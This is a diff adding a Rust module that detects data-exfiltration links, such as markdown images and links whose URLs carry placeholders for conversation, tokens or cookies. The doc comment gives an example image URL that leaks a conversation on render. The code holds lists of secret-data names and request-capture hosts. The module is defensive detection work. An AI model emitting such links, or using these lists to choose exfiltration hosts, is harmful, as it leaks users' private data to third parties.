@@ -1,0 +1,168 @@
+//! Links that carry data out: a markdown image is fetched by the client as soon as it is
+//! rendered, so `![](https://x/?q={conversation})` exfiltrates without a click. Links
+//! and bare URLs count when they carry a placeholder for data.
+
+use std::ops::Range;
+use std::sync::OnceLock;
+
+use regex::Regex;
+
+use crate::normalize::Normalized;
+use crate::verdict::{Signal, SignalKind};
+
+pub(crate) const ANCHORS: &str = "http";
+
+struct Compiled {
+    image: Regex,
+    link: Regex,
+    raw: Regex,
+    placeholder: Regex,
+}
+
+fn compiled() -> Option<&'static Compiled> {
+    static C: OnceLock<Option<Compiled>> = OnceLock::new();
+    C.get_or_init(|| {
+        Some(Compiled {
+            image: Regex::new(
+                r#"!\[[^\]\n]{0,200}\]\(\s?<?(https?://[^\s)>]{1,2048})|<img\b[^>]{0,300}?\bsrc\s?=\s?["']?(https?://[^"'\s>]{1,2048})"#,
+            )
+            .ok()?,
+            link: Regex::new(r"\[[^\]\n]{0,200}\]\(\s?<?(https?://[^\s)>]{1,2048})").ok()?,
+            raw: Regex::new(r#"https?://[^\s)<>"'`]{1,2048}"#).ok()?,
+            placeholder: Regex::new(
+                r"\{\{?\s?([a-z_ .-]{1,40})\s?\}?\}|%7b([a-z_ .%-]{1,40})%7d|\$\{?([a-z_]{1,40})\}?|<([a-z_ -]{1,40})>|\[([a-z_ -]{1,40})\]",
+            )
+            .ok()?,
+        })
+    })
+    .as_ref()
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Carrier {
+    Image,
+    Link,
+    Raw,
+}
+
+/// Names of placeholders that stand for what an attacker wants.
+const DATA_NAMES: &[&str] = &[
+    "conversation",
+    "chat",
+    "history",
+    "context",
+    "data",
+    "secret",
+    "token",
+    "key",
+    "passw",
+    "credential",
+    "message",
+    "summary",
+    "info",
+    "content",
+    "user",
+    "prompt",
+    "env",
+    "file",
+    "memory",
+    "response",
+    "answer",
+    "output",
+    "text",
+    "input",
+    "ssh",
+    "cookie",
+    "session",
+];
+/// In a URL path `{owner}/{repo}` is an API template; only these names are alarming there.
+const PATH_DATA_NAMES: &[&str] =
+    &["conversation", "chat", "history", "context", "secret", "token", "passw", "credential", "summary", "memory", "prompt", "env", "cookie"];
+
+const EXFIL_HOSTS: &[&str] = &[
+    "ngrok",
+    "requestbin",
+    "webhook.site",
+    "pipedream",
+    "burpcollaborator",
+    "oast.",
+    "interact.sh",
+    "beeceptor",
+    "hookbin",
+    "requestcatcher",
+];
+
+/// Exfiltration-link signals (context-free weights) in one normalised window.
+pub(crate) fn scan(norm: &Normalized<'_>, original: &str, out: &mut Vec<Signal>) {
+    let Some(c) = compiled() else { return };
+    let light = norm.text.as_str();
+    let mut covered: Vec<Range<usize>> = Vec::new();
+    for caps in c.image.captures_iter(light) {
+        let (Some(m), Some(url)) = (caps.get(0), caps.get(1).or_else(|| caps.get(2))) else { continue };
+        covered.push(url.range());
+        judge(c, norm, original, m.range(), url.as_str(), Carrier::Image, out);
+    }
+    for caps in c.link.captures_iter(light) {
+        let (Some(m), Some(url)) = (caps.get(0), caps.get(1)) else { continue };
+        if covered.iter().any(|r| r.start == url.start()) {
+            continue;
+        }
+        covered.push(url.range());
+        judge(c, norm, original, m.range(), url.as_str(), Carrier::Link, out);
+    }
+    for m in c.raw.find_iter(light) {
+        if covered.iter().any(|r| r.start <= m.start() && m.start() < r.end) {
+            continue;
+        }
+        judge(c, norm, original, m.range(), m.as_str(), Carrier::Raw, out);
+    }
+}
+
+fn judge(
+    c: &Compiled,
+    norm: &Normalized<'_>,
+    original: &str,
+    range: Range<usize>,
+    url: &str,
+    carrier: Carrier,
+    out: &mut Vec<Signal>,
+) {
+    let after_scheme = url.split_once("://").map_or(url, |(_, r)| r);
+    let (host, rest) = after_scheme.split_at(after_scheme.find(['/', '?', '#']).unwrap_or(after_scheme.len()));
+    let (path, query) = match rest.find(['?', '#']) {
+        Some(i) => (&rest[..i], &rest[i..]),
+        None => (rest, ""),
+    };
+    let data_in_query = placeholders(c, query).any(|n| DATA_NAMES.iter().any(|d| n.contains(d)));
+    let any_in_query = placeholders(c, query).next().is_some();
+    let data_in_path = placeholders(c, path).any(|n| PATH_DATA_NAMES.iter().any(|d| n.contains(d)));
+    let long_value = query.split(['&', '?', '#', ';']).any(|kv| {
+        let v = kv.split_once('=').map_or(kv, |(_, v)| v);
+        v.len() >= 40 && v.bytes().all(|b| b.is_ascii_alphanumeric() || b"%+/=_-.".contains(&b))
+    });
+    let exfil_host = EXFIL_HOSTS.iter().any(|h| host.contains(h));
+
+    let (mut weight, why) = match carrier {
+        Carrier::Image if data_in_query || data_in_path => (0.75, "image URL with a data placeholder"),
+        Carrier::Image if any_in_query => (0.5, "image URL with a placeholder in its query"),
+        Carrier::Image if long_value => (0.4, "image URL carrying a long encoded value"),
+        Carrier::Image if exfil_host => (0.3, "image from a request-capture host"),
+        Carrier::Link if data_in_query || data_in_path => (0.55, "link with a data placeholder"),
+        Carrier::Link if any_in_query => (0.25, "link with a placeholder in its query"),
+        Carrier::Raw if data_in_query || data_in_path => (0.45, "URL with a data placeholder"),
+        _ if exfil_host && !query.is_empty() => (0.3, "request-capture host with a query"),
+        _ => return,
+    };
+    if exfil_host {
+        weight += 0.2;
+    }
+    let span = norm.original_range(range);
+    let evidence = format!("{why}: {}", crate::neutralize::visible_excerpt(&original[span.clone()], 120));
+    out.push(Signal { kind: SignalKind::ExfilLink, span, evidence, weight: weight.min(1.0) });
+}
+
+fn placeholders<'h>(c: &'h Compiled, s: &'h str) -> impl Iterator<Item = &'h str> + 'h {
+    c.placeholder
+        .captures_iter(s)
+        .filter_map(|caps| caps.iter().skip(1).flatten().next().map(|m| m.as_str()))
+}
